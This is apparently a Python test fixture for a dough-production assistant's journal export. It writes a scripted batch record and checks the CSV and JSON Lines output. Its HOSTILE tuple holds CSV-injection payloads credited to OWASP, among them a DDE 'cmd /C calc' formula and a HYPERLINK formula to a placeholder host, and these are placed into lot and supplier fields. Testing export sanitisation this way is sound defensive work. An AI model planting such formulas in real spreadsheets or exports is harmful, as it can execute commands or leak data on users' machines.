"""A journal that has everything an export has to tell, hostile words among it, and how a test exports it."""

import csv
import json
from collections.abc import Callable
from contextlib import closing
from datetime import UTC
from pathlib import Path
from typing import Any

from assistant.batch.record import commands as cmd
from assistant.batch.record import events as ev
from assistant.batch.record import shift_commands as sh
from assistant.clock import ScriptedClock
from assistant.config.flour_lots import StockedLot
from assistant.dough.amounts import Amount
from assistant.dough.recipe import RecipePlan
from assistant.journal.exporting.export import export
from assistant.journal.exporting.tables import TABLES
from assistant.journal.reader import JournalReader
from assistant.journal.store import SqliteJournal
from assistant.testing.journal import decisions

HOSTILE = (
    '=HYPERLINK("http://x.invalid?"&A1;"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "+39 02 1234",
    "\ttab",
    "\rreturn",
    "'quoted",
    'comma, "quote"\nline',
    "crème brûlée ½ 粉",
    "#N/A",
    "_x0041_ and \x07",
)
"""The first six as OWASP's page "CSV Injection" has them; the rest is what CSV or XML takes amiss."""

STEPS = (
    (0.0, cmd.NewBatch(Amount(1500))),
    (30.0, cmd.SetLot("12")),
    (60.0, cmd.AddWater(Amount(335, exact=True))),
    (62.0, cmd.MakeThat(Amount(333.3, exact=True))),
    (65.0, cmd.Mix(120.0)),
    (185.0, cmd.JudgeCrumb("dry")),
    (200.0, cmd.AddWater(Amount(50, exact=True))),
    (203.0, cmd.Undo()),
    (210.0, cmd.PourRest()),
    (330.0, cmd.JudgeCrumb("ready")),
    (340.0, cmd.Rest(600.0)),
    (950.0, sh.Extruding()),
    (960.0, sh.NewDie("rigatoni")),
    (1200.0, sh.TrayDone()),
    (1300.0, sh.Scrap(Amount(12.5, exact=True))),
    (1400.0, cmd.SetTimer("sauce", 600.0)),
    (1500.0, sh.TrayCold(1)),
    (1600.0, sh.TrayDone()),
    (1700.0, sh.Portions(9)),
    (1800.0, cmd.CloseBatch()),
    (1805.0, cmd.Answer(yes=True)),
)
STOCK = {
    "12": StockedLot(flour="=semolina", supplier=HOSTILE[0], delivered_kg=25.0, moisture_pct=13.7),
    HOSTILE[2]: StockedLot(supplier="\tx"),
}


def write_record(path: Path) -> None:
    """A batch as a station writes it, then a batch of each hostile lot."""
    clock = ScriptedClock()
    with closing(SqliteJournal.open(path, clock)) as journal:
        for events in decisions(*STEPS):
            clock.move(events[0].at - clock.monotonic())
            journal.append(events)
        at = clock.monotonic()
        clock.trusted = False
        for number, lot in enumerate(HOSTILE, 2):
            plan = RecipePlan(
                recipe=lot, allergens=("wheat", lot), target_pct=31.0, low_pct=30.0, high_pct=33.0
            )
            opened = ev.BatchOpened(
                at=at, batch=number, flour_g=1000.0 / 3.0, target_pct=31.0, low_pct=30.0, high_pct=33.0,
                hopper_g=3000.0, first_pour_g=70.0, lot=lot, source="keyboard", plan=plan,
                additions_told=True,
            )  # fmt: skip
            journal.append([opened, ev.CrumbJudged(at=at, verdict="wet", hydration_pct=0.1 + 0.2, cook=lot)])
            journal.append([ev.BatchClosed(at=at)])


def exported(path: Path, target: Path, form: str = "csv", *, force: bool = False) -> int:
    with JournalReader.open(path) as journal:
        return export(journal, target, STOCK, form=form, force=force, zone=UTC)


def by_json(folder: Path, table: str) -> list[dict[str, Any]]:
    """Rows of a table as JSON Lines has them."""
    return [
        json.loads(line)
        for line in (folder / f"{table}.jsonl").read_text(encoding="utf-8").split("\n")
        if line
    ]


def by_csv(folder: Path, table: str) -> list[dict[str, Any]]:
    """Rows of a table as its CSV has them, read as the documentation says."""
    with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as file:
        return [read_cells(table, row) for row in csv.DictReader(file, strict=True)]


def read_cells(table: str, row: dict[str, str]) -> dict[str, Any]:
    """A row of texts by the types of its schema."""
    read: dict[str, Callable[[str], Any]] = {
        "integer": int,
        "number": float,
        "boolean": {"true": True, "false": False}.__getitem__,
    }
    found: dict[str, Any] = {}
    for one in TABLES[table].columns:
        text = row[one.name]
        text = text.removeprefix("'") if one.kind == "string" else text
        found[one.name] = read.get(one.kind, str)(text) if text else None
    return found
